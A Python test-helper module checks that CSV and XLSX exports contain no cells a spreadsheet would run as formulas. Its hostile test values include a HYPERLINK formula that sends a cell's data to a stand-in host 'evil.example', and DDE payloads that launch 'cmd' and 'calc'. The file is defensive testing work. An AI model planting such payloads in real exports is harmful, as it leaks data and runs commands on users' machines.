"""Checks shared by the export tests (issue 13): no cell a spreadsheet would run as a formula.

A hostile value (a resident's name, an address, a municipality's name, a user name, a survey
label) is planted, the export is run, and every cell is read back: text beginning with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return, or an XLSX formula, is a failure. Numbers written
as numbers (a negative figure in a CSV: ``-5``) are not text and pass.
"""

from __future__ import annotations

import csv
import io
import re

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"click")'
#: Hostile texts, one per trigger: what a resident, a file or an administrator could type.
HOSTILE = [
    HYPERLINK,
    "+81-3-1234-5678 都城市",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
#: Short ones, for columns of a few characters (a prefecture's name has at most 8).
SHORT = ["=A1", "+1-", "-1+", "@A1", "\t=A", "\r=A"]
_NUMBER = re.compile(r"-?\d+(\.\d+)?")


def executable_csv_cells(text: str) -> list[str]:
    """Text cells of a CSV that begin with a trigger (plain numbers excepted)."""
    return [
        cell
        for row in csv.reader(io.StringIO(text.lstrip("\ufeff"), newline=""))
        for cell in row
        if cell.startswith(TRIGGERS) and not _NUMBER.fullmatch(cell)
    ]


def executable_xlsx_cells(data: bytes) -> list[str]:
    """Formulas, and text cells beginning with a trigger, of every sheet of a workbook."""
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(data))
    found = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f" or (isinstance(cell.value, str) and cell.value.startswith(TRIGGERS)):
                    found.append(f"{sheet.title}!{cell.coordinate}={cell.value!r}")
    return found


def neutralised(text: str) -> str:
    return "'" + text
